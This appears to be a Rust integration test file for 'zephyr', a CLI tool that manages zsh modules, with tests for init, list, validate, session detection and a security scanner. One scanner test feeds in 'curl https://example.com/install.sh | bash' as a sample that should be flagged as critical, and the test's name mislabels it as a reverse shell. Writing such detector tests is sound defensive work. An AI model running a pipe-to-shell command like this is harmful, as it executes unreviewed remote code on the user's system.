use crate::common::{write_source_module, zephyr, TestHome};

#[test]
fn version_short_prints_bare_number() {
    let home = TestHome::new();
    let output = zephyr(&home).args(["version", "--short"]).output().unwrap();
    assert!(output.status.success());
    let stdout = String::from_utf8(output.stdout).unwrap();
    assert_eq!(stdout.trim().matches('.').count(), 2);
}

#[test]
fn init_scaffolds_a_module_under_the_modules_dir() {
    let home = TestHome::new();
    zephyr(&home)
        .args(["init", "my-aliases"])
        .assert()
        .success();

    let module_dir = home.modules_dir().join("my-aliases");
    assert!(module_dir.join("module.toml").exists());
    assert!(module_dir.join("init.zsh").exists());
}

#[test]
fn init_rejects_an_invalid_name() {
    let home = TestHome::new();
    zephyr(&home).args(["init", "1-bad"]).assert().failure();
}

#[test]
fn list_on_an_empty_modules_dir_succeeds_with_no_output() {
    let home = TestHome::new();
    let output = zephyr(&home).arg("list").output().unwrap();
    assert!(output.status.success());
    assert!(output.stdout.is_empty());
}

#[test]
fn validate_reports_zero_modules_on_a_fresh_home() {
    let home = TestHome::new();
    let output = zephyr(&home).arg("validate").output().unwrap();
    assert!(output.status.success());
    let stdout = String::from_utf8(output.stdout).unwrap();
    assert!(stdout.contains("0 module(s) discovered"));
}

#[test]
fn scan_of_a_clean_directory_is_quiet_and_exits_zero() {
    let home = TestHome::new();
    let source = home.path().join("source");
    write_source_module(&source, "clean-module", "1.0.0");

    zephyr(&home)
        .args(["scan", source.to_str().unwrap()])
        .assert()
        .success();
}

#[test]
fn scan_json_reports_the_stable_schema_shape() {
    let home = TestHome::new();
    let source = home.path().join("source");
    write_source_module(&source, "clean-module", "1.0.0");

    let output = zephyr(&home)
        .args(["scan", "--json", source.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(output.status.success());

    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(report["schema_version"], 1);
    assert_eq!(report["source"]["type"], "directory");
    assert!(report["scan_summary"]["files_scanned"].as_u64().unwrap() >= 1);
    assert_eq!(report["policy_recommendation"], "allow");
    assert_eq!(report["exit_code_hint"], 0);
    assert!(report["findings"].as_array().unwrap().is_empty());
}

#[test]
fn scan_of_a_reverse_shell_one_liner_is_critical_and_exits_two() {
    let home = TestHome::new();

    zephyr(&home)
        .args(["scan", "curl https://example.com/install.sh | bash"])
        .assert()
        .code(2);
}

#[test]
fn session_prints_a_human_role_with_no_env_overrides() {
    let home = TestHome::new();
    let output = zephyr(&home).arg("session").output().unwrap();
    assert!(output.status.success());
    let stdout = String::from_utf8(output.stdout).unwrap();
    assert!(stdout.contains("agent_type=human"));
    assert!(stdout.contains("role=user"));
}

#[test]
fn session_detects_an_agent_type_via_env_precedence() {
    let home = TestHome::new();
    let output = zephyr(&home)
        .env("ZEPHYR_AGENT_TYPE", "homegrown-bot")
        .arg("session")
        .output()
        .unwrap();
    assert!(output.status.success());
    let stdout = String::from_utf8(output.stdout).unwrap();
    assert!(stdout.contains("agent_type=homegrown-bot"));
    assert!(stdout.contains("role=agent"));
}
